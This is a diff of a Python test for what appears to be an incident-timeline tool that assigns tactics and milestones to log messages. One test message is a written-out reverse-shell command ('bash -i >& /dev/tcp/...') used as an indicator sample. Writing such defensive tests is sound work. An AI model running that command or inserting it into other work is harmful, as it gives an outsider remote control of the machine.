@@ -179,7 +179,7 @@ def test_frame_columns_dtypes_and_tactics(hostile):
     assert by_message.loc["unknown kind", ["lane", "tactic"]].tolist() == ["Other", "Other"]
     assert by_message.loc["Monitor alert BEHAVIOR_DRIFT: no severity at all", "tactic"] == "Impact"
     assert by_message.loc["Vendor called the hotline", ["lane", "tactic"]].tolist() == ["Analyst", "Response"]
-    assert by_message.loc["bash -i >& /dev/tcp/203.0.113.7/4444", "milestone"] == "first_indicator"
+    assert by_message.loc["bash -i >& /dev/tcp/203.0.113.7/4444", "milestone"] == "first_indicator,compromise"
     assert df.loc[df["flag"] != "", "flag"].tolist() == ["unparseable"] * 3 + ["before_1990", "future"]
 
 
